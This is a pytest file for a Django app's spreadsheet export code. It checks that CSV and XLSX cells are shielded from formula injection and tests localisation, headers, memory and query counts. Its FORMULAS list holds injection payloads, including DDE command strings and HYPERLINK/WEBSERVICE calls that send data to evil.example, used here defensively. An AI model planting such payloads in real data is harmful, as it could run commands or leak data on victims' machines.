"""Files of lists: what a spreadsheet reads in them, what it must never calculate, and what they cost."""

import csv
import io
import json
import tempfile
import tracemalloc
from dataclasses import dataclass
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from django.db.models import F, Value
from django.utils import translation
from django.utils.functional import lazy
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook  # type: ignore[import-untyped]

from partenamut.accounts.models import RoleAssignment, User
from partenamut.accounts.roles import Role
from partenamut.web import exports
from partenamut.web.exports import (
    Column,
    TooManyRows,
    stream_csv,
    stream_json,
    stream_xlsx,
    without_formula,
)

FORMULAS = [
    "=1+1",
    "=",
    "==1",
    "=SUM(A1:A9)",
    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "=DDE('cmd','/C calc','x')",
    "=WEBSERVICE('http://evil.example')",
    '=IMPORTXML("http://evil.example","//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "--1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\rplain",
    "\n=1+1",
    "\nplain",
    "\r\n@A1",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x0b-1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    " \uff1d1+1",
    "\ufe66A1",
    "\u22121+1",
]
HARMLESS = [
    "Dupont",
    "12 rue Haute",
    "été",
    "",
    "O'Brien",
    "a=b",
    "x@y.be",
    "02 123 45 67",
    "(=1)",
    "«=1»",
    "'=1",
]
STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


@dataclass
class Row:
    """A row that no database knows."""

    value: object


VALUE = [Column("value", "Value", "value")]


def csv_text(columns, rows):
    return b"".join(stream_csv("list", columns, rows).streaming_content).decode()


def csv_rows(columns, rows):
    text = csv_text(columns, rows).removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def sheet(columns, rows):
    body = b"".join(stream_xlsx("list", columns, rows).streaming_content)
    return load_workbook(io.BytesIO(body)).worksheets[0]


def objects(columns, rows):
    return json.loads(b"".join(stream_json("list", columns, rows).streaming_content))


# --- formulas


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text_in_csv(text):
    assert csv_rows(VALUE, [Row(text)])[1] == [f"'{text}"]


def test_a_formula_becomes_text_in_a_workbook():
    cells = list(sheet(VALUE, [Row(text) for text in FORMULAS]).iter_rows(min_row=2))
    assert len(cells) == len(FORMULAS) >= 30
    assert {cell.data_type for (cell,) in cells} == {"s"}
    assert {str(cell.value)[0] for (cell,) in cells} == {"'"}
    assert not [cell for (cell,) in cells if cell.hyperlink]


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text):
    assert csv_rows(VALUE, [Row(text)])[1] == [text]


def test_a_formula_among_harmless_texts_is_found():
    texts = [*HARMLESS, *FORMULAS, *HARMLESS]
    assert [row[0] for row in csv_rows(VALUE, map(Row, texts))[1:]] == [
        without_formula(text) for text in texts
    ]


def test_headings_are_texts_too():
    columns = [Column("a", "=1+1", "value"), Column("b", "@x", "value")]
    assert csv_rows(columns, [])[0] == ["'=1+1", "'@x"]
    assert [cell.value for cell in sheet(columns, [])[1]] == ["'=1+1", "'@x"]


@given(st.text(max_size=20))
def test_no_text_starts_as_a_formula(text):
    shown = without_formula(text)
    assert not shown.startswith(STARTS)
    assert not shown.lstrip().startswith(STARTS)
    assert shown in (text, f"'{text}")


@pytest.mark.parametrize("hidden", ["a,=1+1", "a;=1+1", "a\t=1+1", 'a",=1+1', 'a";"=1+1', "a\r\n=1+1"])
def test_no_separator_can_split_a_cell(hidden):
    """Whichever separator the reader's spreadsheet prefers, the cell stays in its quotes."""
    line = csv_text(VALUE, [Row(hidden)]).split("\r\n", 1)[1]
    quoted = hidden.replace('"', '""')
    assert line == f'"{quoted}"\r\n'


# --- what the cells say


MIXED = [
    (None, ""),
    (True, "Oui"),
    (False, "Non"),
    (0, "0"),
    (-12, "-12"),
    (Decimal("1234.50"), "1234,50"),
    (Decimal("-0.05"), "-0,05"),
    (Decimal("1E+3"), "1000"),
    (Decimal("0E-7"), "0,0000000"),
    (1.5, "1,5"),
    (date(2026, 3, 7), "07/03/2026"),
    (date(33, 4, 3), "03/04/0033"),
    (datetime(2026, 7, 1, 22, 30, tzinfo=UTC), "02/07/2026 00:30"),
    (datetime(2026, 7, 1, 22, 30), "01/07/2026 22:30"),  # noqa: DTZ001
    ("Dupont", "Dupont"),
]


@pytest.mark.parametrize(("value", "shown"), MIXED)
def test_a_csv_cell_reads_as_in_belgium(value, shown):
    with translation.override("fr"):
        catalogue = {"Oui": translation.gettext("Yes"), "Non": translation.gettext("No")}
        assert csv_rows(VALUE, [Row(value)])[1] == [catalogue.get(shown, shown)]


@given(
    st.lists(
        st.one_of(
            st.text(max_size=8),
            st.integers(),
            st.decimals(allow_nan=False, allow_infinity=False),
            st.dates(),
            st.none(),
        ),
        min_size=1,
    )
)
def test_a_value_reads_the_same_alone_and_among_others(values):
    alone = [csv_rows(VALUE, [Row(value)])[1] for value in values]
    assert csv_rows(VALUE, map(Row, values))[1:] == alone


@given(st.lists(st.tuples(st.text(max_size=12), st.text(max_size=12)), max_size=5))
def test_any_text_comes_back_from_csv(pairs):
    columns = [Column("a", "A", lambda row: row[0]), Column("b", "B", lambda row: row[1])]
    read = csv_rows(columns, pairs)
    assert read[1:] == [[without_formula(text) for text in pair] for pair in pairs]


def test_csv_opens_in_a_spreadsheet_of_this_country():
    response = stream_csv("list", VALUE, [Row("é")])
    assert b"".join(response.streaming_content) == b'\xef\xbb\xbf"Value"\r\n"\xc3\xa9"\r\n'
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_a_lone_surrogate_does_not_stop_the_file():
    assert csv_rows(VALUE, [Row("a\ud800b")])[1] == ["a?b"]


def test_a_workbook_has_real_days_and_numbers():
    columns = [Column("a", "A", "value", kind="euros")]
    moment = datetime(2026, 7, 1, 22, 30, tzinfo=UTC)
    values = [Decimal("1234.50"), -3, date(2026, 3, 7), moment, None, date(1890, 1, 1), Decimal("NaN")]
    cells = [row[0] for row in sheet(columns, map(Row, values)).iter_rows(min_row=2)]
    read = [cell.value for cell in cells]
    assert read[:2] == [1234.5, -3]
    assert read[2] == datetime(2026, 3, 7)  # noqa: DTZ001
    assert read[3] == datetime(2026, 7, 2, 0, 30)  # noqa: DTZ001
    assert read[4:] == [None, "01/01/1890", "NaN"]
    assert cells[0].number_format == '#,##0.00\u00a0"€"'
    assert cells[2].number_format == "dd/mm/yyyy"


@pytest.mark.parametrize(
    "text", ["0123", "1234", "https://evil.example", "{=1+1}", "mailto:a@b.be", "1e5", "TRUE"]
)
def test_a_text_stays_a_text_in_a_workbook(text):
    (cell,) = sheet(VALUE, [Row(text)])[2]
    assert (cell.value, cell.data_type, cell.hyperlink) == (text, "s", None)


def test_a_number_of_many_figures_keeps_them_all():
    (cell,) = sheet(VALUE, [Row(1234567890123456)])[2]
    assert cell.value == "1234567890123456"


def test_the_first_row_stays_in_view():
    made = sheet(VALUE, [])
    assert made.freeze_panes == "A2"
    assert made["A1"].font.bold


@pytest.mark.parametrize("name", ["a/b:c*[d]?", "x" * 60, "'quoted'", "   ", "History"])
def test_any_name_makes_a_file(name):
    response = stream_xlsx(name, VALUE, [])
    assert load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets


def test_a_column_may_stand_in_the_file_only_or_on_the_page_only():
    columns = [Column("a", "A", "value", export=False), Column("b", "B", "value", table=False)]
    assert csv_rows(columns, [Row(1)]) == [["B"], ["1"]]


@pytest.mark.parametrize(("extension", "stream"), exports.STREAMS.items())
def test_the_download_is_named_and_never_kept(extension, stream):
    response = stream('Demandes à "payer"\r\nX: 1', VALUE, [])
    assert response["Content-Disposition"] == f'attachment; filename="demandes-a-payer-x-1.{extension}"'
    assert response["Cache-Control"] == "no-store, private"
    assert response["X-Content-Type-Options"] == "nosniff"


def test_a_file_keeps_the_language_of_the_request():
    spoken = lazy(translation.get_language, str)()
    with translation.override("nl"):
        response = stream_csv("list", [Column("a", spoken, "value")], [Row(spoken)])
    with translation.override("de"):
        text = b"".join(response.streaming_content).decode()
    assert text == '\ufeff"nl"\r\n"nl"\r\n'


@pytest.mark.parametrize(("kind", "text"), [("day", "02/07/2026"), ("moment", "02/07/2026 00:30")])
def test_a_moment_shows_its_hour_where_the_column_asks_for_it(kind, text):
    columns = [Column("at", "At", "value", kind=kind)]
    rows = [Row(None), Row(datetime(2026, 7, 1, 22, 30, tzinfo=UTC)), Row(date(2026, 7, 2))]
    assert [row[0] for row in csv_rows(columns, rows)[1:]] == ["", text, "02/07/2026"]
    cell = sheet(columns, rows)["A3"]
    assert cell.number_format == ("dd/mm/yyyy" if kind == "day" else "dd/mm/yyyy hh:mm")


# --- JSON


FOR_A_MACHINE = [
    (None, None),
    (True, True),
    (-12, -12),
    (Decimal("1234.50"), "1234.50"),
    (Decimal("1E+3"), "1000"),
    (date(2026, 3, 7), "2026-03-07"),
    (datetime(2026, 7, 1, 22, 30, tzinfo=UTC), "2026-07-01T22:30:00+00:00"),
    ("=1+1", "=1+1"),
    ('é "quoted" \u2028', 'é "quoted" \u2028'),
    ("a\ud800b", "a?b"),
    (lazy(lambda: "spoken", str)(), "spoken"),
]


@pytest.mark.parametrize(("value", "read"), FOR_A_MACHINE)
def test_json_says_what_is_stored(value, read):
    assert objects(VALUE, [Row(value)]) == [{"value": read}]


def test_json_of_no_rows_is_an_empty_list():
    assert objects(VALUE, []) == []


@pytest.mark.parametrize("rows", [1, exports.BATCH, exports.BATCH + 1, 3 * exports.BATCH])
def test_json_goes_on_over_batches(rows):
    columns = [Column("a", "A", lambda row: row), Column("b", "B", str)]
    assert objects(columns, range(rows)) == [{"a": row, "b": str(row)} for row in range(rows)]


def test_json_cuts_a_moment_to_its_day_here():
    columns = [Column("at", "At", "value", kind="day")]
    assert objects(columns, [Row(datetime(2026, 7, 1, 22, 30, tzinfo=UTC))]) == [{"at": "2026-07-02"}]


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=12), max_size=5))
def test_any_text_comes_back_from_json(texts):
    assert objects(VALUE, map(Row, texts)) == [{"value": text} for text in texts]


# --- size


def test_a_workbook_refuses_more_rows_than_it_may_have(monkeypatch, tmp_path):
    monkeypatch.setattr(exports, "XLSX_ROWS", 3)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    assert len(list(sheet(VALUE, map(Row, range(3))).rows)) == 4
    with pytest.raises(TooManyRows):
        stream_xlsx("list", VALUE, map(Row, range(4)))
    assert list(Path(tmp_path).iterdir()) == []


def peak(work):
    tracemalloc.start()
    try:
        work()
        return tracemalloc.get_traced_memory()[1] / 1024 / 1024
    finally:
        tracemalloc.stop()


def test_a_hundred_thousand_rows_of_csv_need_no_memory():
    columns = [Column(str(place), "A", lambda row: f"text {row}") for place in range(5)]

    def drain(rows):
        return lambda: sum(map(len, stream_csv("list", columns, range(rows)).streaming_content))

    small, large = peak(drain(4_000)), peak(drain(100_000))
    assert large < 6
    assert large < small * 1.2 + 0.2


def test_a_hundred_thousand_rows_of_json_need_no_memory():
    columns = [Column(str(place), "A", lambda row: f"text {row}") for place in range(5)]

    def drain(rows):
        return lambda: sum(map(len, stream_json("list", columns, range(rows)).streaming_content))

    small, large = peak(drain(4_000)), peak(drain(100_000))
    assert large < 8
    assert large < small * 1.2 + 0.2


def test_six_thousand_rows_of_a_workbook_need_no_memory():
    columns = [Column(str(place), "A", lambda row: f"text {row}") for place in range(3)]
    assert peak(lambda: list(stream_xlsx("list", columns, range(6_000)).streaming_content)) < 6


# --- from the database


@pytest.fixture
def people(db):
    moment = datetime(2026, 3, 7, 12, tzinfo=UTC)
    users = [
        User(email=f"p{n}@example.be", name=f"={n}" if n == 3 else f"Person {n}", language="nl")
        for n in range(5)
    ]
    User.objects.bulk_create(users)
    RoleAssignment.objects.bulk_create(
        RoleAssignment(user=user, role=Role.MEMBER, granted_at=moment, granted_by=users[0] if n % 2 else None)
        for n, user in enumerate(users)
    )
    return users


PATHS = [
    Column("name", "Name", "user.name"),
    Column("language", "Language", "user.language", kind="status"),
    Column("role", "Role", "role", kind="status"),
    Column("by", "By", "granted_by.name"),
    Column("at", "At", "granted_at", kind="day"),
]
#: The same, but one column that only Python knows.
OBJECTS = [*PATHS, Column("upper", "Upper", lambda row: row.user.name.upper())]


def rows_of_roles():
    return RoleAssignment.objects.select_related("user", "granted_by").order_by("pk")


@pytest.mark.parametrize("columns", [PATHS, OBJECTS], ids=["tuples", "objects"])
def test_an_export_is_one_query(people, columns, django_assert_num_queries):
    with django_assert_num_queries(1):
        read = csv_rows(columns, rows_of_roles())
    assert len(read) == 6
    role, language = str(Role.MEMBER.label), "Dutch"
    assert read[4][:5] == ["'=3", language, role, "Person 0", "07/03/2026"]
    assert read[1][3] == ""


def test_tuples_and_objects_say_the_same(people):
    assert csv_rows(PATHS, rows_of_roles()) == [row[:5] for row in csv_rows(OBJECTS, rows_of_roles())]


def test_annotations_are_columns(people):
    rows = User.objects.annotate(owed=Value(Decimal("12.50")), who=F("name")).order_by("pk")
    columns = [Column("owed", "Owed", "owed", kind="euros"), Column("who", "Who", "who")]
    assert csv_rows(columns, rows)[1:3] == [["12,50", "Person 0"], ["12,50", "Person 1"]]


def test_distinct_rows_stay_distinct_by_row(people):
    columns = [Column("language", "Language", "language")]
    assert len(csv_rows(columns, User.objects.order_by("pk").distinct())) == 6
    united = User.objects.filter(email="p1@example.be").union(User.objects.filter(email="p2@example.be"))
    assert len(csv_rows(columns, united)) == 3


def test_a_relation_shows_its_name_and_not_its_key(people):
    columns = [Column("user", "User", "user")]
    assert csv_rows(columns, rows_of_roles())[1] == ["Person 0"]


def test_prefetched_rows_cost_two_queries(people, django_assert_num_queries):
    columns = [
        Column("roles", "Roles", lambda user: ", ".join(held.role for held in user.role_assignments.all()))
    ]
    with django_assert_num_queries(2):
        assert csv_rows(columns, User.objects.order_by("pk").prefetch_related("role_assignments"))[1] == [
            "member"
        ]


def test_a_workbook_from_the_database_is_one_query(people, django_assert_num_queries):
    with django_assert_num_queries(1):
        made = sheet(PATHS, rows_of_roles())
    assert made["A5"].value == "'=3"
    assert made["E2"].value == datetime(2026, 3, 7)  # noqa: DTZ001


@pytest.mark.parametrize("columns", [PATHS, OBJECTS], ids=["tuples", "objects"])
def test_json_from_the_database_is_one_query_with_codes_not_labels(
    people, columns, django_assert_num_queries
):
    with django_assert_num_queries(1):
        read = objects(columns, rows_of_roles())
    assert (read[3]["name"], read[3]["language"], read[3]["role"]) == ("=3", "nl", "member")
    assert (read[0]["by"], read[0]["at"]) == (None, "2026-03-07")
